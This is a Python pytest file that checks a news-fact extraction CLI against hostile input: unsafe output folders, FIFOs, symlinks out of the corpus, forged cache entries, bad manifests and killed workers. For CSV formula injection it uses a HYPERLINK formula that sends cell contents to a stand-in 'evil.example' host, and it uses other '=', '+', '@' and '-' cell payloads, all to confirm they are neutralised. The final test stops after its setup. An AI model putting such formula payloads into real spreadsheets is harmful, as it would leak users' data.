"""Attacks of a hostile but realistic user (issue 12): each one is refused in one line, or survived, and never
deletes what the user made, hangs, or leaves a half-written dataset."""
from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import filelock
import pytest
from click.testing import CliRunner

from extract.cli import cli
from extract.dataset import build as build_module
from extract.dataset.build import build_dataset, load_dataset
from extract.dataset.outputs import MARKER, OutputsError, lock_path

PROJECT = Path(__file__).resolve().parent.parent
GOOD = "Hunan Province sent 120 medical workers to Huanggang on Monday, February 10, 2020."


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under a folder, by relative path, with its bytes (what must survive an attack)."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def one_error_line(result) -> str:
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output
    return lines[0]


@pytest.fixture
def corpus(tmp_path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "a.txt").write_text(GOOD, encoding="utf-8")
    (folder / "b.txt").write_text("Xiaogan had 2,000 confirmed cases on February 12, 2020.", encoding="utf-8")
    return folder


# -- build -o writes only where a build may write --------------------------------------------------------------

def test_build_into_the_corpus_is_refused_and_deletes_nothing(corpus):
    (corpus / "verdicts.csv").write_text("fact_id,verdict,value,note\n", encoding="utf-8")
    before = tree(corpus)
    result = run("build", corpus, "-o", corpus, "--no-cache", "-q")
    assert result.exit_code == 1
    assert "not made by aidfacts build" in one_error_line(result)
    assert tree(corpus) == before


@pytest.mark.parametrize("inside", ["manifest.csv", "outputs", "sub/outputs"])
def test_build_into_a_folder_inside_the_corpus_is_refused_and_writes_nothing(corpus, inside):
    before = tree(corpus)
    result = run("build", corpus, "-o", corpus / inside, "--no-cache", "-q")
    assert result.exit_code == 1
    assert one_error_line(result).endswith(f"{corpus / inside}: inside the corpus {corpus}; write the outputs "
                                           "beside it (-o outputs)")
    assert tree(corpus) == before


def test_build_into_the_project_root_is_refused_and_deletes_nothing(tmp_path, corpus):
    project = tmp_path
    (project / ".git").mkdir()
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (project / "notes.md").write_text("mine", encoding="utf-8")
    before = tree(project)
    result = run("build", corpus, "-o", project, "--no-cache", "-q")
    assert result.exit_code == 1, result.output
    one_error_line(result)
    assert tree(project) == before


def test_build_over_a_file_or_a_symlink_is_refused(tmp_path, corpus):
    target = tmp_path / "data.csv"
    target.write_text("mine\n", encoding="utf-8")
    assert "is not a folder" in one_error_line(run("build", corpus, "-o", target, "--no-cache", "-q"))
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    assert "symbolic link" in one_error_line(run("build", corpus, "-o", tmp_path / "link", "--no-cache", "-q"))
    assert target.read_text(encoding="utf-8") == "mine\n" and (tmp_path / "link").is_symlink()


def test_a_file_the_user_put_into_outputs_stops_the_swap(tmp_path, corpus):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    (out / "my notes.txt").write_text("keep me", encoding="utf-8")
    with pytest.raises(OutputsError, match="my notes.txt"):
        build_dataset(corpus, out, use_cache=False)
    assert (out / "my notes.txt").read_text(encoding="utf-8") == "keep me"


def test_builds_write_into_new_empty_and_earlier_outputs(tmp_path, corpus):
    (tmp_path / "empty").mkdir()
    for out in (tmp_path / "new" / "deeper", tmp_path / "empty", tmp_path / "empty"):
        build_dataset(corpus, out, use_cache=False)
        assert (out / MARKER).is_file() and (out / "facts.csv").is_file()
    legacy = tmp_path / "legacy"   # outputs of a build from before the marker
    shutil.copytree(tmp_path / "empty", legacy)
    (legacy / MARKER).unlink()
    build_dataset(corpus, legacy, use_cache=False)
    assert (legacy / MARKER).is_file()
    someone_elses = tmp_path / "theirs"   # a data package of another project, with a table of the same name
    someone_elses.mkdir()
    (someone_elses / "datapackage.json").write_text('{"name": "their-data"}', encoding="utf-8")
    (someone_elses / "facts.csv").write_text("theirs\n", encoding="utf-8")
    with pytest.raises(OutputsError, match="not made by aidfacts build"):
        build_dataset(corpus, someone_elses, use_cache=False)
    assert (someone_elses / "facts.csv").read_text(encoding="utf-8") == "theirs\n"


def test_stale_folders_that_are_not_ours_are_left_alone(tmp_path, corpus):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    user = tmp_path / ".out.new-mine"   # looks like a dead build's staging folder, but the user made it
    user.mkdir()
    (user / "keep.txt").write_text("keep", encoding="utf-8")
    build_dataset(corpus, out, use_cache=False)
    assert (user / "keep.txt").read_text(encoding="utf-8") == "keep"


def test_outputs_keep_the_users_umask(tmp_path, corpus):
    old = os.umask(0o022)
    try:
        build_dataset(corpus, tmp_path / "out", cache_dir=tmp_path / "cache")
    finally:
        os.umask(old)
    assert (tmp_path / "out").stat().st_mode & 0o777 == 0o755
    assert {p.stat().st_mode & 0o777 for p in (tmp_path / "out").iterdir()} == {0o644}
    assert {p.stat().st_mode & 0o777 for p in (tmp_path / "cache").iterdir()} == {0o644}


# -- a full disk, a read-only folder: one line, the previous outputs whole -------------------------------------

@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS, errno.EACCES])
def test_write_failure_is_one_line_and_keeps_previous_outputs(tmp_path, corpus, monkeypatch, code):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    before = tree(out)
    (corpus / "c.txt").write_text("Wuhan had 300 new cases on February 13, 2020.", encoding="utf-8")

    def failing_write(self, rows):
        raise OSError(code, os.strerror(code), str(self.handle.name))

    monkeypatch.setattr(build_module.TableWriter, "add_rows", failing_write)
    result = run("build", corpus, "-o", out, "--no-cache", "-q")
    assert result.exit_code == 1
    line = one_error_line(result)
    assert os.strerror(code) in line and "previous outputs are unchanged" in line
    assert tree(out) == before
    assert not list(tmp_path.glob(".out.new-*"))


def test_staging_folder_that_cannot_be_made_is_one_line(tmp_path, corpus, monkeypatch):
    import tempfile

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(tmp_path))

    monkeypatch.setattr(tempfile, "mkdtemp", read_only)
    result = run("build", corpus, "-o", tmp_path / "out", "--no-cache", "-q")
    assert result.exit_code == 1
    assert "Read-only file system" in one_error_line(result)


# -- two builds at once ----------------------------------------------------------------------------------------

def test_second_build_refuses_in_one_line_while_the_first_holds_the_lock(tmp_path, corpus):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    before = tree(out)
    held = filelock.FileLock(str(lock_path(out)))
    with held:
        with pytest.raises(OutputsError, match="another aidfacts build is still writing it"):
            build_dataset(corpus, out, use_cache=False, lock_wait=0.2)
    assert tree(out) == before


def test_second_build_waits_for_the_first(tmp_path, corpus):
    out = tmp_path / "out"
    held = filelock.FileLock(str(lock_path(out)), thread_local=False)   # released by another thread
    held.acquire()
    told = []
    release = threading.Timer(0.3, held.release)
    release.start()
    try:
        build_dataset(corpus, out, use_cache=False, lock_wait=30, on_wait=told.append)
    finally:
        release.cancel()
    assert told and "waiting up to 30 s" in told[0]
    assert (out / "facts.csv").is_file()


def test_two_builds_at_once_both_succeed(tmp_path, corpus):
    out = tmp_path / "out"
    errors = []

    def one_build():
        try:
            build_dataset(corpus, out, use_cache=False)
        except Exception as error:   # noqa: BLE001 - the test reports any failure
            errors.append(error)

    threads = [threading.Thread(target=one_build) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(load_dataset(out)["documents"]["doc_id"]) == ["a", "b"]


# -- every failure of a verb is one line, never a traceback ----------------------------------------------------

def test_an_unexpected_error_is_one_line_and_verbose_shows_the_traceback(corpus, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("something\nunexpected")

    monkeypatch.setattr(build_module, "build_dataset", broken)
    result = run("build", corpus, "-o", tmp_path / "out", "-q")
    assert result.exit_code == 1
    assert one_error_line(result) == "Error: RuntimeError: something unexpected"
    verbose = run("build", corpus, "-o", tmp_path / "out", "-q", "-v")
    assert verbose.exit_code == 1 and "Traceback" in verbose.stderr


def test_cli_process_exits_quietly_on_a_broken_pipe(tmp_path):
    long = tmp_path / "long.txt"
    long.write_text(GOOD * 300, encoding="utf-8")   # facts far beyond a pipe's buffer: the writes meet a closed pipe
    process = subprocess.run(f"{sys.executable} -m extract extract {long} --published 2020-02-12 | head -c 1",
                             shell=True, capture_output=True, text=True, timeout=120)
    assert process.stdout == "{"
    assert "Traceback" not in process.stderr and "BrokenPipe" not in process.stderr


# -- bounded reads: regular files only, never a blocking open, size counted while reading ----------------------

def test_fifo_device_and_socket_are_refused_without_blocking(tmp_path):
    import socket

    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)   # nobody writes to it: a blocking open would wait forever
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(tmp_path / "sock.txt"))
    good = tmp_path / "good.txt"
    good.write_text(GOOD, encoding="utf-8")
    try:
        result = run("extract", fifo, "/dev/zero", tmp_path / "sock.txt", good)
    finally:
        server.close()
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: {fifo}: is a FIFO, not a regular file", "error: /dev/zero: is a device, not a regular file",
                      f"error: {tmp_path}/sock.txt: is a socket, not a regular file"]
    assert '"doc_id": "good"' in result.stdout


def test_size_is_counted_while_reading_not_taken_from_fstat(tmp_path, monkeypatch):
    from extract.dataset import corpus as corpus_module

    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * 5000)
    real_fstat = os.fstat

    def lying_fstat(descriptor):   # a /proc file or a growing file: stat says less than there is
        result = real_fstat(descriptor)
        return os.stat_result((result.st_mode, *result[1:6], 0, *result[7:]))

    monkeypatch.setattr(os, "fstat", lying_fstat)
    monkeypatch.setattr(corpus_module, "MAX_ARTICLE_BYTES", 4000)
    with pytest.raises(corpus_module.ArticleError, match="too large for an article: more than 4,000 bytes"):
        corpus_module.read_article_text(big)
    assert corpus_module.read_regular(big, 5000) == b"x" * 5000


def test_corpus_links_that_leave_the_corpus_are_listed_in_errors(tmp_path, corpus):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\nHubei had 99 cases.", encoding="utf-8")
    (corpus / "passwd.txt").symlink_to(secret)
    (corpus / "inside.txt").symlink_to(corpus / "a.txt")   # a link within the corpus is read
    (corpus / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    os.mkfifo(corpus / "fifo.txt")
    build_dataset(corpus, tmp_path / "out", use_cache=False)
    tables = load_dataset(tmp_path / "out")
    assert tables["errors"].to_dict(orient="records") == [
        {"file": "fifo.txt", "error": "is a FIFO, not a regular file"},
        {"file": "gone.txt", "error": "symbolic link to a file outside the corpus; not read"},
        {"file": "passwd.txt", "error": "symbolic link to a file outside the corpus; not read"}]
    assert sorted(tables["documents"]["doc_id"]) == ["a", "b", "inside"]
    assert "root:x" not in (tmp_path / "out" / "facts.jsonl").read_text(encoding="utf-8")


# -- the cache: what does not fit the article is ignored -------------------------------------------------------

def cached_entry(corpus: Path, cache: Path, name: str = "a") -> Path:
    from extract.dataset.cache import FactCache
    from extract.dataset.corpus import ArticleReader

    article = ArticleReader()(corpus / f"{name}.txt")
    return cache / f"{FactCache(cache).key(article)}.json"


def test_a_fifo_in_the_cache_is_ignored(tmp_path, corpus):
    cache = tmp_path / "cache"
    cache.mkdir()
    os.mkfifo(cached_entry(corpus, cache))
    report = build_dataset(corpus, tmp_path / "out", cache_dir=cache)
    assert report.documents == 2 and report.cache_hits == 0


@pytest.mark.parametrize("forge", ["empty object", "forged value", "moved span", "other doc",
                                   "unknown kind", "not json"])
def test_cache_entries_that_do_not_fit_the_article_are_ignored(tmp_path, corpus, forge):
    import json

    cache = tmp_path / "cache"
    build_dataset(corpus, tmp_path / "fresh", cache_dir=cache)
    expected = (tmp_path / "fresh" / "facts.jsonl").read_bytes()
    entry = cached_entry(corpus, cache)
    facts = json.loads(entry.read_text(encoding="utf-8"))
    staff = next(f for f in facts if f["kind"] == "personnel_count")
    if forge == "empty object":
        data = {}
    elif forge == "forged value":
        data = facts + [{**staff, "value": "=1+1"}]
    elif forge == "moved span":
        data = [{**f, "start": f["start"] + 1} if f is staff else f for f in facts]
    elif forge == "other doc":
        data = [{**f, "doc_id": "b"} for f in facts]
    elif forge == "unknown kind":
        data = [{**f, "kind": "rumour"} if f is staff else f for f in facts]
    else:
        data = None
    entry.write_text("{not json" if data is None else json.dumps(data), encoding="utf-8")
    report = build_dataset(corpus, tmp_path / "out", cache_dir=cache)
    assert report.cache_hits == 1 and report.extracted == ["a"]
    assert (tmp_path / "out" / "facts.jsonl").read_bytes() == expected


# -- the manifest: checked when read, never a reason to replace a good dataset ---------------------------------

BAD_MANIFESTS = [
    ("wrong header", b"name,date\na.txt,2020-02-12\n", "row 1: header ['name', 'date'] lacks ['file', 'published']"),
    ("empty file", b"", "row 1: no header"),
    ("short row", b"file,published,source\na.txt,2020-02-12\n", "row 2: 2 fields, the header has 3"),
    ("file twice", b"file,published\na.txt,2020-02-12\nb.txt,\na.txt,2020-02-13\n",
     "row 4: file 'a.txt' listed twice (first in row 2)"),
    ("a path", b"file,published\n../a.txt,2020-02-12\n", "row 2: file '../a.txt' is not a file name"),
    ("not utf-8", b"file,published,title\na.txt,2020-02-12,Hub\xe9i\n", "row 2: not UTF-8 (byte 41 of the file)"),
    ("column twice", b"file,published,file\na.txt,2020-02-12,b.txt\n", "row 1: column 'file' appears twice"),
]


@pytest.mark.parametrize("name, data, problem", BAD_MANIFESTS, ids=[m[0] for m in BAD_MANIFESTS])
def test_a_bad_manifest_is_one_line_and_keeps_the_dataset(tmp_path, corpus, name, data, problem):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    before = tree(out)
    (corpus / "manifest.csv").write_bytes(data)
    result = run("build", corpus, "-o", out, "--no-cache", "-q")
    assert result.exit_code == 1
    assert one_error_line(result).startswith(f"Error: {corpus / 'manifest.csv'}: {problem}")
    assert tree(out) == before


def test_a_manifest_from_excel_with_bom_and_crlf_is_read(tmp_path, corpus):
    (corpus / "manifest.csv").write_bytes("\ufefffile,published,source,url,title\r\na.txt,2020-02-12,Xinhua,,"
                                          "\"Hunan, Huanggang\"\r\n\r\n".encode("utf-8"))
    build_dataset(corpus, tmp_path / "out", use_cache=False)
    documents = load_dataset(tmp_path / "out")["documents"].set_index("doc_id")
    assert documents.loc["a", "source"] == "Xinhua" and documents.loc["a", "title"] == "Hunan, Huanggang"


def test_a_fifo_as_manifest_is_one_line(tmp_path, corpus):
    os.mkfifo(corpus / "manifest.csv")
    result = run("build", corpus, "-o", tmp_path / "out", "--no-cache", "-q")
    assert result.exit_code == 1
    assert one_error_line(result).endswith("manifest.csv: is a FIFO, not a regular file")


# -- a time budget per article, and workers that die -----------------------------------------------------------

def slow_for(marker: str, seconds: float = 30.0):
    """extract_doc that takes `seconds` on a text holding `marker` (a pathological article, made cheap)."""
    import time

    from extract.dataset import batch

    real = batch.extract_doc

    def extract_doc(text, *args, **kwargs):
        if marker in text:
            time.sleep(seconds)
        return real(text, *args, **kwargs)
    return extract_doc


@pytest.mark.parametrize("workers", [1, 2])
def test_an_article_over_its_time_budget_is_listed_and_the_build_goes_on(tmp_path, corpus, monkeypatch, workers):
    from extract.dataset import batch

    (corpus / "slow.txt").write_text("PATHOLOGICAL " + GOOD, encoding="utf-8")
    monkeypatch.setattr(batch, "extract_doc", slow_for("PATHOLOGICAL"))
    report = build_dataset(corpus, tmp_path / "out", use_cache=False, workers=workers, seconds=0.5)
    errors = load_dataset(tmp_path / "out")["errors"].to_dict(orient="records")
    assert errors == [{"file": "slow.txt", "error": "not extracted within 0.5 s (the per-article time budget); "
                                                    "left out"}]
    assert report.documents == 2


def kill_me_on(marker: str):
    from extract.dataset import batch

    real = batch.extract_doc

    def extract_doc(text, *args, **kwargs):
        if marker in text:
            os.kill(os.getpid(), 9)
        return real(text, *args, **kwargs)
    return extract_doc


def finishes(call, seconds: float = 120.0):
    """Run `call` in a thread; what it raised, or a failure if it is still running after `seconds` (a hang)."""
    outcome = []

    def target():
        try:
            call()
            outcome.append(None)
        except BaseException as error:   # noqa: BLE001 - handed to the test
            outcome.append(error)

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "the build hangs"
    return outcome[0]


def test_a_killed_worker_fails_the_build_in_one_line(tmp_path, corpus, monkeypatch):
    from extract.dataset import batch

    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    before = tree(out)
    (corpus / "killer.txt").write_text("KILLWORKER " + GOOD, encoding="utf-8")
    monkeypatch.setattr(batch, "extract_doc", kill_me_on("KILLWORKER"))
    error = finishes(lambda: build_dataset(corpus, out, use_cache=False, workers=2))
    assert isinstance(error, batch.WorkerDied) and "a worker process died" in str(error)
    assert "\n" not in str(error)
    assert tree(out) == before


def test_a_worker_killed_while_writing_the_tables_fails_the_build(tmp_path, corpus, monkeypatch):
    from extract.dataset import batch

    out = tmp_path / "out"
    real = build_module.DatasetWriter.render

    def render(self, part, first, stop):
        if part == 1:
            os.kill(os.getpid(), 9)
        return real(self, part, first, stop)

    monkeypatch.setattr(build_module.DatasetWriter, "parallel_from", 1)
    monkeypatch.setattr(build_module.DatasetWriter, "render", render)
    error = finishes(lambda: build_dataset(corpus, out, use_cache=False, workers=2))
    assert isinstance(error, batch.WorkerDied)
    assert not out.exists()


# -- CSV cells: formulas neutralised, the exact text kept in JSONL and read back ---------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formulas_reach_the_csv_files_as_text_and_the_jsonl_exactly(tmp_path, corpus):
    import csv
    import json

    (corpus / "@cmd.txt").write_text("-Hunan sent 90 nurses to Huanggang on February 11, 2020.", encoding="utf-8")
    (corpus / "manifest.csv").write_text(f'file,published,source,url,title\na.txt,2020-02-12,+Xinhua,-1,'
                                         f'"{FORMULA_TITLE.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    with open(out / "documents.csv", encoding="utf-8", newline="") as handle:
        rows = {row["file"]: row for row in csv.DictReader(handle)}
    assert rows["a.txt"]["title"] == "'" + FORMULA_TITLE and rows["a.txt"]["source"] == "'+Xinhua"
    assert rows["a.txt"]["url"] == "-1"   # a number: a spreadsheet reads it as one, harmless
    assert rows["'@cmd.txt"]["doc_id"] == "'@cmd"
    for name in ("facts.csv", "gaps.csv", "documents.csv", "errors.csv", "pairings.csv", "conflicts.csv"):
        with open(out / name, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell and (cell[0] in "=+@" or (cell[0] == "-" and not cell[1:2].isdigit()))
                               for cell in row), (name, row)
    facts = [json.loads(line) for line in (out / "facts.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {f["doc_id"] for f in facts} == {"@cmd", "a", "b"}
    assert any(f["text"].startswith("-Hunan") or f["doc_id"] == "@cmd" for f in facts)
    tables = load_dataset(out)
    documents = tables["documents"].set_index("doc_id")
    assert documents.loc["a", "title"] == FORMULA_TITLE and documents.loc["a", "source"] == "+Xinhua"
    assert set(tables["facts"]["doc_id"]) == {"@cmd", "a", "b"}


def test_extract_csv_output_is_neutralised(tmp_path):
    evil = tmp_path / "=evil.txt"
    evil.write_text(GOOD, encoding="utf-8")
    result = run("extract", evil, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert ",'=evil," in result.stdout and ",=evil," not in result.stdout


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+Xinhua", "'+Xinhua"), ("@SUM(A1)", "'@SUM(A1)"), ("-cmd", "'-cmd"), ("\tx", "'\tx"),
    ("'=x", "''=x"), ("'x", "'x"), ("-5", "-5"), ("+86", "+86"), ("-1,200.5", "-1,200.5"), ("", ""), ("Hubei", "Hubei"),
    (-5, -5), (None, None), (2.5, 2.5)])
def test_neutral_cells(value, written):
    import pandas as pd

    from extract.dataset.spreadsheet import neutral, restore

    assert neutral(value) == written
    if isinstance(value, str):
        assert restore(pd.Series([written, "plain"], dtype=object)).tolist() == [value, "plain"]


def test_any_text_survives_a_round_trip_through_the_csv_files(tmp_path):
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from extract.dataset.build import read_table
    from extract.dataset.tablefiles import write_table

    risky = st.text(alphabet="='+-@\t\r ,\"x5", max_size=8)

    @settings(max_examples=80, deadline=None)
    @given(st.lists(st.one_of(risky, st.text(max_size=8)), min_size=1, max_size=5))
    def round_trip(texts):
        path = tmp_path / "t.csv"
        texts = [t for t in texts if t and t.strip() == t and "\r" not in t]   # what a CSV cell can carry
        if not texts:
            return
        write_table(path, [{"note": t} for t in texts], ["note"])
        assert read_table(path)["note"].tolist() == texts

    round_trip()


def test_a_cache_that_cannot_be_written_only_slows_the_build(tmp_path, corpus):
    not_a_folder = tmp_path / "cache"
    not_a_folder.write_text("mine", encoding="utf-8")
    report = build_dataset(corpus, tmp_path / "out", cache_dir=not_a_folder)
    assert report.documents == 2 and report.cache_hits == 0
    assert not_a_folder.read_text(encoding="utf-8") == "mine"


def test_add_refuses_a_fifo_without_blocking(tmp_path, corpus):
    fifo = tmp_path / "incoming.txt"
    os.mkfifo(fifo)
    before = tree(corpus)
    result = run("add", fifo, "--corpus", corpus, "--no-build")
    assert result.exit_code == 1
    assert "incoming.txt: is a FIFO, not a regular file" in one_error_line(result)
    assert tree(corpus) == before


def test_two_build_processes_at_once_both_succeed(tmp_path, corpus):
    out = tmp_path / "out"
    command = [sys.executable, "-m", "extract", "build", str(corpus), "-o", str(out), "--no-cache", "-q"]
    processes = [subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for _ in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in processes]
    for process in processes:
        process.stdout.close()
        process.stderr.close()
    assert [code for code, _ in results] == [0, 0], results
    assert all("Traceback" not in err for _, err in results)
    assert sorted(load_dataset(out)["documents"]["doc_id"]) == ["a", "b"]
    assert not list(tmp_path.glob(".out.new-*")) and not (tmp_path / ".out.old").exists()


def test_a_dead_builds_staging_folder_is_removed_by_the_next_build(tmp_path, corpus):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    dead = tmp_path / ".out.new-dead"   # what a killed build leaves: the marker and part of the tables
    dead.mkdir()
    (dead / MARKER).write_text("x", encoding="utf-8")
    (dead / "facts.csv.part0").write_text("half", encoding="utf-8")
    build_dataset(corpus, out, use_cache=False)
    assert not dead.exists()


def test_extract_with_a_bad_manifest_beside_the_articles_is_one_line(corpus):
    (corpus / "manifest.csv").write_text("name\nx\n", encoding="utf-8")
    result = run("extract", corpus / "a.txt")
    assert result.exit_code == 1
    assert "manifest.csv: row 1: header ['name'] lacks ['file', 'published']" in one_error_line(result)


def test_a_fifo_as_verdicts_file_stops_the_build_in_one_line(tmp_path, corpus):
    out = tmp_path / "out"
    build_dataset(corpus, out, use_cache=False)
    before = tree(out)
    os.mkfifo(corpus / "verdicts.csv")
    result = run("build", corpus, "-o", out, "--no-cache", "-q")
    assert result.exit_code == 1
    assert one_error_line(result).endswith("verdicts.csv: is a FIFO, not a regular file")
    assert tree(out) == before


def test_a_file_name_with_a_line_break_or_a_terminal_escape_stays_one_line(tmp_path, corpus):
    (corpus / "two\nlines.txt").write_bytes(b"")
    (corpus / "\x1b[31mred.txt").write_bytes(b"\x00\x01binary")
    result = run("build", corpus, "-o", tmp_path / "out", "--no-cache", "-q")
    assert result.exit_code == 1   # the others' dataset is written; the bad articles are listed
    assert [line for line in result.stderr.splitlines() if line.startswith("error")] == [
        f"error: {corpus}/\\x1b[31mred.txt: binary file, not text",
        f"error: {corpus}/two\\nlines.txt: empty article (no text)"]
    errors = load_dataset(tmp_path / "out")["errors"]
    assert sorted(errors["file"]) == ["\x1b[31mred.txt", "two\nlines.txt"]   # the data keeps the real names


def test_the_budget_stops_the_real_pipeline_and_the_next_articles_come_out_whole(tmp_path, corpus):
    build_dataset(corpus, tmp_path / "plain", use_cache=False)
    # 1.7 MB, 340,000 words: many seconds of pipeline, where the seeds take milliseconds each, so that a budget
    # of 2 s separates them even on a loaded machine
    (corpus / "0long.txt").write_text("Wuhan reported 1 case and 2 cases. " * 48000, encoding="utf-8")
    report = build_dataset(corpus, tmp_path / "out", use_cache=False, seconds=2.0)
    assert report.errors == ["0long.txt: not extracted within 2 s (the per-article time budget); left out"]
    assert (tmp_path / "out" / "facts.jsonl").read_bytes() == (tmp_path / "plain" / "facts.jsonl").read_bytes()


def test_extract_keeps_the_same_time_budget_and_refuses_a_second_doc_id(tmp_path, monkeypatch):
    from extract.dataset import batch

    long = tmp_path / "a" / "0long.txt"
    long.parent.mkdir()
    long.write_text("Wuhan reported 1 case and 2 cases. " * 48000, encoding="utf-8")
    (tmp_path / "a" / "y.txt").write_text("Hunan sent 120 medical workers to Huanggang on Monday.\n", encoding="utf-8")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "y.txt").write_text("Unrelated words here.\n", encoding="utf-8")
    monkeypatch.setattr(batch, "ARTICLE_SECONDS", 2.0)   # the build's budget, which extract keeps too
    result = run("extract", long, tmp_path / "a" / "y.txt", tmp_path / "b" / "y.txt", "--published", "2020-02-12")
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error")]
    assert errors == ["error: 0long.txt: not extracted within 2 s (the per-article time budget); left out",
                      "error: y.txt: doc_id 'y' is already an earlier article's (y.txt); left out"]
    staff = [line for line in result.stdout.splitlines() if '"personnel_count"' in line]
    assert len(staff) == 1 and '"doc_id": "y"' in staff[0]


GOLD = {"doc_id": "a", "dates": ["2020-02-10"], "regions": ["Hubei"],
        "case_counts": [{"value": 5, "region": "Hubei", "status": "confirmed", "period": "new", "date": None}]}
BAD_GOLD = [
    ({"case_counts": 5}, "case_counts: not a list"),
    ({"case_counts": [5]}, "case_counts entry 1: not an object"),
    ({"case_counts": [{"value": "many"}]}, "case_counts entry 1: value 'many' is not a whole number"),
    ({"case_counts": [{"region": "Hubei"}]}, "case_counts entry 1: value None is not a whole number"),
    ({"dates": [None, 5, "x"]}, "dates: not a list of strings"),
    ({"regions": [{"x": 1}]}, "regions: not a list of strings"),
    ({"pairings": [["a"]]}, "pairings entry 1: not an object"),
    ({"case_counts": [{"value": 5, "region": {"x": 1}}]}, "case_counts entry 1: region {'x': 1} is not a string, null or a list of those"),
]


@pytest.mark.parametrize("change, problem", BAD_GOLD, ids=[p for _, p in BAD_GOLD])
def test_evaluate_refuses_malformed_gold_in_one_line(tmp_path, change, problem):
    gold = tmp_path / "gold"
    gold.mkdir()
    (gold / "a.gold.json").write_text(json.dumps({**GOLD, **change}), encoding="utf-8")
    (tmp_path / "facts.jsonl").write_text("", encoding="utf-8")
    result = run("evaluate", gold, tmp_path / "facts.jsonl")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert one_error_line(result).endswith(f"a.gold.json: {problem}")


def test_evaluate_refuses_two_gold_files_of_one_article_and_malformed_facts(tmp_path):
    gold = tmp_path / "gold"
    gold.mkdir()
    for name in ("a", "b"):
        (gold / f"{name}.gold.json").write_text(json.dumps(GOLD), encoding="utf-8")
    facts = tmp_path / "facts.jsonl"
    facts.write_text("", encoding="utf-8")
    result = run("evaluate", gold, facts)
    assert result.exit_code == 1 and one_error_line(result).endswith("b.gold.json: doc_id 'a' is also a.gold.json's "
                                                                     "(one gold file an article)")
    (gold / "b.gold.json").unlink()
    for line, problem in (('{"doc_id": "a", "kind": "case_count", "region": [1], "value": 5}', "region [1]"),
                          ('{"doc_id": "a", "kind": "case_count", "region": "Hubei"}', "a case_count without a value"),
                          ('{"doc_id": "a", "kind": "cases", "value": 5}', "unknown kind 'cases'")):
        facts.write_text(line + "\n", encoding="utf-8")
        result = run("evaluate", gold, facts)
        assert result.exit_code == 1 and problem in one_error_line(result), result.output


def test_evaluate_refuses_a_fifo_as_facts_file(tmp_path):
    gold = tmp_path / "gold"
    gold.mkdir()
    (gold / "a.gold.json").write_text('{"doc_id": "a"}', encoding="utf-8")
    os.mkfifo(tmp_path / "facts.jsonl")
    result = run("evaluate", gold, tmp_path / "facts.jsonl")
    assert result.exit_code == 1
    assert one_error_line(result).endswith("facts.jsonl: is a FIFO, not a regular file")


def test_an_alarm_whose_exception_was_swallowed_still_leaves_the_article_out(monkeypatch):
    from extract.dataset import batch
    from extract.dataset.corpus import Article

    def extract_swallowing_the_alarm(*args, **kwargs):
        try:
            batch._expire(None, None)   # what a garbage-collector callback would swallow
        except BaseException:
            pass
        return None

    monkeypatch.setattr(batch, "extract_doc", extract_swallowing_the_alarm)
    monkeypatch.setattr(batch, "doc_to_facts", lambda doc, doc_id: [])
    work = batch.ArticleWork(seconds=5.0)
    item, facts, cached = work(Article("a", "Hubei reported 3 cases.", None, "a.txt"))
    assert facts is None and "per-article time budget" in item.reason


def test_a_swallowed_alarm_repeats_until_the_runaway_extraction_stops(monkeypatch):
    """A runaway article whose first OverBudget is swallowed (by a garbage-collector callback, say) is stopped by
    the alarm's repeat, not left to run on."""
    import time
    from extract.dataset import batch
    from extract.dataset.corpus import Article
    stopped = []

    def runaway(*args, **kwargs):
        deadline = time.monotonic() + 10
        try:
            while time.monotonic() < deadline:
                pass
        except batch.OverBudget:
            pass   # swallowed
        try:
            while time.monotonic() < deadline:
                pass
        except batch.OverBudget:
            stopped.append(True)
            raise
        return None

    monkeypatch.setattr(batch, "extract_doc", runaway)
    monkeypatch.setattr(batch, "doc_to_facts", lambda doc, doc_id: [])
